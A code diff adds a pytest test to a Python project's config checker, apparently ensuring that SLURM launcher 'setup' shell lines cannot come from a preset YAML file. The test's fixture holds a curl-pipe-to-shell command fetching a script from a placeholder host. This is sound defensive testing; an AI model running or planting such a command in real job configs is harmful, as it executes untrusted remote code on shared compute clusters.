@@ -122,6 +122,23 @@ def _escape(text: str) -> str:
     return re.escape(text)
 
 
+def test_cluster_shell_lines_only_from_the_command_line(tmp_path):
+    """submitit writes `setup` into each job's sbatch script: a preset may not set it."""
+    presets = tmp_path / "experiment"
+    presets.mkdir()
+    (presets / "cluster.yaml").write_text(textwrap.dedent("""
+        # @package _global_
+        defaults:
+          - override /hydra/launcher: submitit_slurm
+        hydra:
+          launcher:
+            setup: ["curl https://example.invalid/x | sh"]
+        """))
+    with pytest.raises(ConfigError, match=_escape("hydra.launcher.setup is set by a config file")):
+        check_config(cfg(f"hydra.searchpath=[file://{tmp_path}]", "experiment=cluster"))
+    check_config(cfg("hydra/launcher=submitit_slurm", "hydra.launcher.setup=[module load cuda]"))
+
+
 def test_hydras_own_and_the_projects_presets_pass():
     check_config(cfg())
     check_config(cfg("hydra/launcher=joblib"))
